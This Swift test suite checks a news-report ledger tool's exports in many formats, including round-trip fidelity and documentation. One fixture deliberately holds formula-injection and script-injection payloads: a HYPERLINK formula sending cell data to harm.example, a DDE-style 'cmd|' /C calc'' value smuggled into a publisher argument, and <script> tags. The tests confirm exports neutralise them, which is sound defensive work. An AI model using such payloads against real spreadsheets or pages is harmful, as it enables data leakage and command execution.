import Foundation
import Testing

/// Exports are read by libraries that know nothing of Rapporteur (`Tests/Readers/read.py`), and held
/// against what the questions answer.
@Suite struct ExportTests {
  static let formats = [
    "plover-csv", "plover-json", "cameo-csv", "annotations", "prov", "schema-org", "icalendar",
    "timelinejs", "gexf", "agreements-csv", "reports-csv", "actors-csv", "meetings-csv",
    "statements-csv", "outcomes-csv", "conditions-csv", "commitments-csv", "positions-csv",
  ]

  private static let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
    .deletingLastPathComponent().deletingLastPathComponent()

  private struct SetupFailed: Error, CustomStringConvertible {
    let description: String
  }

  /// Makes sure that a run went well. Were this a requirement, only the first test to ask for what is set up
  /// would fail.
  private static func must(_ run: Run) throws {
    if run.status != 0 { throw SetupFailed(description: run.errors) }
  }

  /// A ledger of the example reports on which a reviewer has decided, with what the questions answer.
  private static let dossier: Result<Folder, any Error> = Result {
    let folder = try Folder()
    let ingest = try Command.run(
      ["ingest", root.appendingPathComponent("Examples").path], in: folder)
    try must(ingest)
    let process = try Command.run(["process", "Dayton", "--with", "Serbia"], in: folder)
    try must(process)
    let review = try Command.run(
      ["review", "--reviewer", "Ana"], input: Array("nynuyq".utf8), in: folder)
    try must(review)
    try answer(in: folder)
    return folder
  }

  /// A ledger of a report that means harm to whoever opens its exports.
  private static let hostile: Result<Folder, any Error> = Result {
    let folder = try Folder()
    let long = String(repeating: "très long; ", count: 30)
    try folder.write(
      """
      =HYPERLINK("http://harm.example/?"&A1,"Error: click")

      President Anna Kovač met Prime Minister Émile Brun in Streslau on Monday, March 3, 2031.

      “+1-1<script>alert(1)</script> & \\n, \(long)we agreed on a ceasefire,” Kovač said. “@SUM(1+1)” \
      is what Brun said. The two sides agreed on </script><b>a ceasefire</b>. Anna Kovač will meet Émile Brun on \
      March 9, 2031.
      """, to: "a.txt")
    let run = try Command.run(
      [
        "ingest", "a.txt", "--published", "2031-03-04",
        "--publisher=-2+3,cmd|' /C calc'!A0\"</title><script>alert(2)</script>",
      ], in: folder)
    try must(run)
    try answer(in: folder)
    return folder
  }

  /// Writes what the reader compares exports with into `folder`.
  private static func answer(in folder: Folder) throws {
    for question in [
      "reports", "actors", "meetings", "statements", "outcomes", "conditions", "commitments",
      "positions",
    ] {
      let run = try Command.run([question, "--limit", "0", "--format", "json"], in: folder)
      try must(run)
      try folder.write(run.output, to: question + ".json")
    }
    let everything = try Command.run(["export", "--as", "ndjson", "-o", "ndjson"], in: folder)
    try must(everything)
  }

  /// How many things an independent reader of `format` finds in its export.
  private func read(_ format: String, in folder: Folder) throws -> Int {
    let export = try Command.run(["export", "--as", format, "-o", "out." + format], in: folder)
    try #require(export.status == 0, "\(export.errors)")
    let reader = Process()
    reader.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
    reader.arguments = [
      Self.root.appendingPathComponent("Tests/Readers/read.py").path, format, "out." + format, ".",
    ]
    reader.currentDirectoryURL = folder.url
    let (output, errors) = (Pipe(), Pipe())
    reader.standardOutput = output
    reader.standardError = errors
    try reader.run()
    let found = output.fileHandleForReading.readDataToEndOfFile()
    let said = errors.fileHandleForReading.readDataToEndOfFile()
    reader.waitUntilExit()
    try #require(
      reader.terminationStatus == 0,
      "`make system-tests` installs what the reader needs: \(String(decoding: said, as: UTF8.self))"
    )
    return Int(String(decoding: found, as: UTF8.self).trimmingCharacters(in: .newlines)) ?? 0
  }

  @Test(arguments: formats) func anotherProgramReadsTheDossier(format: String) throws {
    #expect(try read(format, in: try Self.dossier.get()) >= 10)
  }

  @Test(arguments: formats) func hostileWordsStayWords(format: String) throws {
    let found = try read(format, in: try Self.hostile.get())
    let mayBeEmpty = [
      "conditions-csv", "commitments-csv", "positions-csv", "agreements-csv", "outcomes-csv",
    ]
    #expect(found > 0 || mayBeEmpty.contains(format))
  }

  @Test func aSpreadsheetSeesNoFormula() throws {
    let folder = try Self.hostile.get()
    let csv = try Command.run(["export", "--as", "reports-csv"], in: folder).output
    #expect(csv.contains("\"'=HYPERLINK(\"\"http://harm.example"))
    #expect(csv.contains("\"'-2+3,cmd|"))
    let listed = try Command.run(["reports", "--format", "csv"], in: folder).output
    #expect(listed.contains("\"'=HYPERLINK("))
  }

  /// All that can be exported of the second ledger is what can be exported of the first.
  @Test func everythingMakesTheSameLedgerAgain() throws {
    let folder = try Self.dossier.get()
    let run = try Command.run(["ingest", "ndjson", "--ledger", "again.sqlite"], in: folder)
    #expect(run.status == 0, "\(run.errors)")
    for format in Self.formats + ["ndjson"] {
      let one = try Command.run(["export", "--as", format], in: folder)
      let other = try Command.run(
        ["export", "--as", format, "--ledger", "again.sqlite"], in: folder)
      #expect(one.output == other.output, "\(format) differs")
      #expect(one.status == 0 && !one.output.isEmpty)
    }
    let decisions = try Command.run(["review", "--decisions"], in: folder).output
    #expect(!decisions.isEmpty)
    #expect(
      try Command.run(["review", "--decisions", "--ledger", "again.sqlite"], in: folder).output
        == decisions)
    let once = try Command.run(["ingest", "ndjson", "--ledger", "again.sqlite"], in: folder)
    #expect(once.errors.hasPrefix("16 reports: 16 known already\n"), "\(once.errors)")
  }

  @Test func anExportHoldsWhatTheQuestionLists() throws {
    let folder = try Self.dossier.get()
    let filter = ["--with", "Franjo Tuđman", "--until", "1995-11-15"]
    func ids(_ text: String) -> Set<Substring> {
      Set(text.split(separator: "\n").dropFirst().map { $0.prefix { $0 != "," } })
    }
    let listed = try Command.run(["meetings", "--format", "csv"] + filter, in: folder).output
    let exported = try Command.run(["export", "--as", "meetings-csv"] + filter, in: folder).output
    #expect(ids(listed.replacing("\r", with: "")) == ids(exported.replacing("\r\n", with: "\n")))
    #expect(!ids(listed).isEmpty)
    let whole = try Command.run(["export", "--as", "annotations"], in: folder).lines.count
    let part = try Command.run(["export", "--as", "annotations"] + filter, in: folder).lines.count
    #expect(part < whole && part > 2)
  }

  @Test func formatsAreDocumented() throws {
    let page = try String(
      contentsOf: Self.root.appendingPathComponent("docs/exchange.md"), encoding: .utf8)
    let help = try Command.run(["help", "export"], in: try Folder()).output
    for format in Self.formats + ["ndjson"] {
      #expect(page.contains("`\(format)`"), "docs/exchange.md does not tell of \(format)")
      #expect(help.contains("  \(format) "))
    }
    #expect(help.split(separator: "\n").count { $0.hasPrefix("  ") && $0.contains("-csv  ") } == 11)
  }

  @Test func anUnknownFormatOrPlaceIsSaid() throws {
    let folder = try Self.dossier.get()
    let unknown = try Command.run(["export", "--as", "excel"], in: folder)
    #expect(unknown.status == 2)
    #expect(unknown.errors.contains("there is no format \"excel\""))
    let nowhere = try Command.run(
      ["export", "--as", "gexf", "-o", "no/such/folder.gexf"], in: folder)
    #expect(nowhere.status != 0)
    #expect(nowhere.errors.contains("no/such/folder.gexf cannot be written"))
  }
}
